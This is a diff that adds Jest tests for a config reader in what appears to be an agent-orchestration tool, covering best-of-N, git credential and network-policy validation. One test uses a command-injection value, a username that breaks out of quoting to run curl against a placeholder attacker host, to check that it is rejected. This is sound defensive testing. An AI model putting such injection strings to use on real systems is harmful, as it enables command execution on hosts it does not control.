@@ -164,6 +164,57 @@ describe('ConfigReader', () => {
             expect(() => reader.readConfig()).toThrow('maxDockerContainers must be between 1 and 100');
         });
 
+        it('should require a test command for the tests-pass best-of-N strategy', () => {
+            fs.mkdirSync(configDir, { recursive: true });
+            const invalidConfig = {
+                agentType: SWEAgentType.GEMINI_CLI,
+                bestOfN: { attempts: 3, strategy: 'tests-pass' }
+            };
+            fs.writeFileSync(configPath, JSON.stringify(invalidConfig));
+
+            const reader = new ConfigReader({ configDir: configDir, throwOnMissing: true });
+            expect(() => reader.readConfig()).toThrow('bestOfN.testCommand must be provided');
+        });
+
+        it('should require the deploy key path for the deploy-key git credential strategy', () => {
+            fs.mkdirSync(configDir, { recursive: true });
+            const invalidConfig = {
+                agentType: SWEAgentType.GEMINI_CLI,
+                gitCredentialStrategy: 'deploy-key'
+            };
+            fs.writeFileSync(configPath, JSON.stringify(invalidConfig));
+
+            const reader = new ConfigReader({ configDir: configDir, throwOnMissing: true });
+            expect(() => reader.readConfig()).toThrow('gitDeployKeyPath is required');
+        });
+
+        it('should reject a git HTTPS user name with shell characters', () => {
+            fs.mkdirSync(configDir, { recursive: true });
+            const invalidConfig = {
+                agentType: SWEAgentType.GEMINI_CLI,
+                gitCredentialStrategy: 'https-token',
+                gitHttpsToken: 'ghp_token',
+                gitHttpsUsername: "bot'; curl evil.example #"
+            };
+            fs.writeFileSync(configPath, JSON.stringify(invalidConfig));
+
+            const reader = new ConfigReader({ configDir: configDir, throwOnMissing: true });
+            expect(() => reader.readConfig()).toThrow('Invalid gitHttpsUsername');
+        });
+
+        it('should reject the none network policy with nerdctl', () => {
+            fs.mkdirSync(configDir, { recursive: true });
+            const invalidConfig = {
+                agentType: SWEAgentType.GEMINI_CLI,
+                containerRuntime: 'nerdctl',
+                networkPolicy: 'none'
+            };
+            fs.writeFileSync(configPath, JSON.stringify(invalidConfig));
+
+            const reader = new ConfigReader({ configDir: configDir, throwOnMissing: true });
+            expect(() => reader.readConfig()).toThrow('networkPolicy none is not supported with containerRuntime nerdctl');
+        });
+
         it('should validate logical constraints between fields', () => {
             fs.mkdirSync(configDir, { recursive: true });
             const invalidConfig = {